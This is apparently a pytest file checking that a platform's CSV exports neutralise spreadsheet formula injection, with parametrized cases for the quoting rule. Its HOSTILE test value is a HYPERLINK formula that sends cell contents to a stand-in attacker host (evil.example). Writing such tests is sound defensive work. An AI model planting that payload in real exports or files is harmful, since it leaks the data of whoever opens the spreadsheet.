"""Every CSV the platform writes is safe to open in a spreadsheet (issue 20: a unit named
`=HYPERLINK(...)` reached supervisors' spreadsheets as a live formula)."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from minyi.api.spreadsheet import csv_text, safe_cell
from minyi.api.views import stats_csv
from minyi.domain.scoreboard import league
from minyi.services.results import StatsReport

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


def test_a_unit_name_a_spreadsheet_would_evaluate_is_written_as_text_in_the_stats_export() -> None:
    # Given a stats report whose unit is named like a formula
    totals, table = league([("evil-unit", {"dispatched": 2})], {"evil-unit": HOSTILE})
    day = date(2026, 3, 2)
    report = StatsReport(day_from=day, day_to=day, unit_id=None, totals=totals, units=table, items_read=1)
    # When it is exported as CSV
    rows = list(csv.DictReader(io.StringIO(stats_csv(report).removeprefix("\ufeff"))))
    # Then the name is prefixed with a quote, and the counts are still plain numbers
    assert rows[0]["unit_name"] == "'" + HOSTILE
    assert rows[0]["dispatched"] == "2" and rows[1]["unit_id"] == "TOTAL"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+86 755", "'+86 755"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("福田区交警大队", "福田区交警大队"),
        ("a=b", "a=b"),
        ("", ""),
        (-3, -3),
        (0.25, 0.25),
        (None, None),
    ],
)
def test_text_cells_starting_like_a_formula_are_quoted_and_numbers_are_left_alone(
    cell: object, written: object
) -> None:
    # Given a cell / When it is made safe / Then only text that starts like a formula changes
    assert safe_cell(cell) == written


def test_the_header_and_every_row_go_through_the_same_rule() -> None:
    # Given a header and a row with formula-like text and a negative number
    text = csv_text(["-name", "delta"], [{"-name": "@x", "delta": -1}])
    # When it is read back / Then the text is quoted and the number is a number
    assert list(csv.reader(io.StringIO(text.removeprefix("\ufeff")))) == [["'-name", "delta"], ["'@x", "-1"]]
